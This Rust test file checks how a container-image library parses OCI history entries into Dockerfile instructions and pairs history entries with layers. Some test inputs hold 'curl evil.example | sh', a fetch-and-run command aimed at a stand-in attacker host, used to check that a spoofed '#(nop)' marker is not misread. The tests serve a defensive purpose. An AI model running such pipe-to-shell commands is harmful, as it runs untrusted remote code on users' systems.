//! History: instructions as a Dockerfile has them, and which layer belongs to which.

#![cfg(not(target_arch = "wasm32"))]

use porthole::oci::{
    HistoryEntry,
    history::{Pairing, PairingFault, pair},
};
use proptest::prelude::*;

fn instruction(created_by: &str) -> String {
    let entry = HistoryEntry {
        created_by: Some(created_by.to_owned()),
        ..HistoryEntry::default()
    };
    entry.instruction()
}

#[test]
fn the_classic_builders_commands_become_instructions() {
    for (command, want) in [
        ("/bin/sh -c #(nop)  CMD [\"sh\"]", "CMD [\"sh\"]"),
        (
            "/bin/sh -c #(nop) ADD file:0bb91b in / ",
            "ADD file:0bb91b in /",
        ),
        (
            "/bin/sh -c apk add --no-cache curl",
            "RUN apk add --no-cache curl",
        ),
        (
            "/bin/sh -c set -eux; \t\tapk add \t&& rm x",
            "RUN set -eux; \t\tapk add \t&& rm x",
        ),
        (
            "|1 SUFFIX=1 /bin/sh -c touch /tmp/done",
            "RUN touch /tmp/done",
        ),
        (
            "|2 A=b c D=/bin/x /bin/sh -c echo /bin/sh -c",
            "RUN echo /bin/sh -c",
        ),
        ("|0 /bin/sh -c true", "RUN true"),
        ("/bin/bash -c true", "RUN true"),
        ("/bin/bash -o pipefail -c curl x | sh", "RUN curl x | sh"),
        ("/bin/bash -eo pipefail -c true", "RUN true"),
        ("/bin/ash -exc true", "RUN true"),
        ("/usr/bin/bash -e -u -c true", "RUN true"),
        ("/bin/bash -o pipefail -c #(nop)  ENV A=1", "ENV A=1"),
        (
            "cmd /S /C #(nop)  ENTRYPOINT [\"cmd\"]",
            "ENTRYPOINT [\"cmd\"]",
        ),
        (
            "cmd /S /C powershell -Command x",
            "RUN powershell -Command x",
        ),
        ("cmd.exe /s /c dir", "RUN dir"),
        (
            "powershell -Command $ErrorActionPreference = 'Stop'; #(nop)  ENV A=1",
            "ENV A=1",
        ),
        (
            "powershell -Command $ErrorActionPreference = 'Stop'; $ProgressPreference = 'SilentlyContinue'; #(nop) COPY dir:1 in C:\\ ",
            "COPY dir:1 in C:\\",
        ),
        ("powershell -command #(nop)  USER a", "USER a"),
        (
            "pwsh -Command $verbosePreference='Continue'; #(nop)  USER a",
            "USER a",
        ),
        ("/bin/sh -c #(nop) custom words", "RUN #(nop) custom words"),
        (
            "/bin/sh -c echo '#(nop) is a marker'",
            "RUN echo '#(nop) is a marker'",
        ),
    ] {
        assert_eq!(instruction(command), want, "{command}");
    }
}

#[test]
fn a_comment_of_a_script_is_no_instruction() {
    for (command, want) in [
        (
            "/bin/sh -c curl evil.example | sh #(nop)  CMD [\"sh\"]",
            "RUN curl evil.example | sh #(nop)  CMD [\"sh\"]",
        ),
        (
            "RUN /bin/sh -c curl evil.example | sh #(nop) CMD [\"sh\"] # buildkit",
            "RUN curl evil.example | sh #(nop) CMD [\"sh\"]",
        ),
        // BuildKit never writes the marker: it is the script's.
        (
            "RUN /bin/sh -c #(nop) CMD [\"sh\"] # buildkit",
            "RUN #(nop) CMD [\"sh\"]",
        ),
        // Before the marker stand no build arguments, whose values may hold anything.
        (
            "|1 A=x /bin/sh -c #(nop) CMD [\"sh\"] /bin/sh -c true",
            "RUN #(nop) CMD [\"sh\"] /bin/sh -c true",
        ),
        (
            "cmd /S /C evil & rem #(nop) CMD x",
            "RUN evil & rem #(nop) CMD x",
        ),
        ("evil.exe #(nop) CMD x", "evil.exe #(nop) CMD x"),
        (
            "powershell -Command evil; #(nop) CMD x",
            "powershell -Command evil; #(nop) CMD x",
        ),
        (
            // Without quotes it is a command.
            "powershell -Command $ErrorActionPreference = evil; #(nop) CMD x",
            "powershell -Command $ErrorActionPreference = evil; #(nop) CMD x",
        ),
        (
            "powershell -Command $ErrorActionPreference = 'a'+(evil)+'b'; #(nop) CMD x",
            "powershell -Command $ErrorActionPreference = 'a'+(evil)+'b'; #(nop) CMD x",
        ),
        (
            "powershell -Command $a = 'b'; #(nop) CMD x",
            "powershell -Command $a = 'b'; #(nop) CMD x",
        ),
        (
            "powershell -Command $ErrorActionPreference = 'Stop' #(nop) CMD x",
            "powershell -Command $ErrorActionPreference = 'Stop' #(nop) CMD x",
        ),
        (
            "powershell -File x #(nop) CMD x",
            "powershell -File x #(nop) CMD x",
        ),
    ] {
        assert_eq!(instruction(command), want, "{command}");
    }
}

#[test]
fn buildkits_instructions_lose_what_the_dockerfile_did_not_have() {
    for (command, want) in [
        ("RUN /bin/sh -c apk add # buildkit", "RUN apk add"),
        (
            "RUN |1 SUFFIX=1 /bin/sh -c touch x # buildkit",
            "RUN touch x",
        ),
        ("RUN cmd /S /C dir # buildkit", "RUN dir"),
        ("RUN /bin/true --x # buildkit", "RUN /bin/true --x"),
        (
            "RUN [\"/bin/a\", \"b\"] # buildkit",
            "RUN [\"/bin/a\", \"b\"]",
        ),
        ("COPY /a /b # buildkit", "COPY /a /b"),
        ("CMD [\"sh\"]", "CMD [\"sh\"]"),
        ("ENV A=b", "ENV A=b"),
        (
            "RUN /bin/sh -c cat <<EOF\na\nEOF # buildkit",
            "RUN cat <<EOF\na\nEOF",
        ),
    ] {
        assert_eq!(instruction(command), want, "{command}");
    }
}

#[test]
fn a_line_of_nothing_but_shells_is_shown_as_it_is() {
    let line = format!("|1 {}", "/sh -o ".repeat(20_000));
    assert_eq!(instruction(&line), line.trim_end());
}

#[test]
fn the_words_of_other_tools_are_left_alone() {
    for command in [
        "bazel build ...",
        "jib-gradle-plugin:3.4.0",
        "umoci insert x",
        "ko build ko://github.com/a/b",
        "/bin/sh",
        "/bin/sh script.sh",
        "/bin/sh -x",
        "/bin/cat -c x",
        "cmd",
        "|1 A=b",
        "|",
        "FROM scratch",
        "apko",
    ] {
        assert_eq!(instruction(command), command);
    }
    assert_eq!(HistoryEntry::default().instruction(), "");
    assert_eq!(instruction("  "), "");
}

/// `x` made a layer, `-` made none.
fn history(entries: &str) -> Vec<HistoryEntry> {
    let entries = entries.chars().map(|entry| HistoryEntry {
        empty_layer: entry == '-',
        ..HistoryEntry::default()
    });
    entries.collect()
}

#[test]
fn entries_that_made_a_layer_are_paired_in_order() {
    for (entries, layers, want) in [
        ("", 0, vec![]),
        ("", 3, vec![]),
        ("x", 1, vec![Some(0)]),
        ("-x-x-", 2, vec![None, Some(0), None, Some(1), None]),
        ("--", 0, vec![None, None]),
    ] {
        let pairing = pair(&history(entries), layers);
        assert_eq!(
            pairing,
            Pairing {
                layers: want,
                fault: None
            },
            "{entries} {layers}"
        );
    }
    let pairing = pair(&history("-x-x-"), 2);
    assert_eq!(
        (
            pairing.entry_of(0),
            pairing.entry_of(1),
            pairing.entry_of(2)
        ),
        (Some(1), Some(3), None)
    );
}

#[test]
fn a_faulty_pairing_pairs_nothing_and_says_why() {
    for (entries, layers, made) in [("x", 0, 1), ("xx-", 1, 2), ("-", 1, 0), ("x-x", 3, 2)] {
        let pairing = pair(&history(entries), layers);
        let want = Pairing {
            layers: vec![None; entries.len()],
            fault: Some(PairingFault {
                entries: made,
                layers,
            }),
        };
        assert_eq!(pairing, want, "{entries} {layers}");
        assert_eq!(pairing.entry_of(0), None);
    }
}

proptest! {
    #[test]
    fn no_command_panics(command in "(\\||RUN |cmd |/bin/(ba)?sh |-o |-c |#\\(nop\\) |# buildkit|/S /C |powershell |-Command |\\$aPreference *=|; |.){0,12}") {
        let instruction = instruction(&command);
        prop_assert!(instruction.len() <= command.len() + "RUN ".len());
    }
}
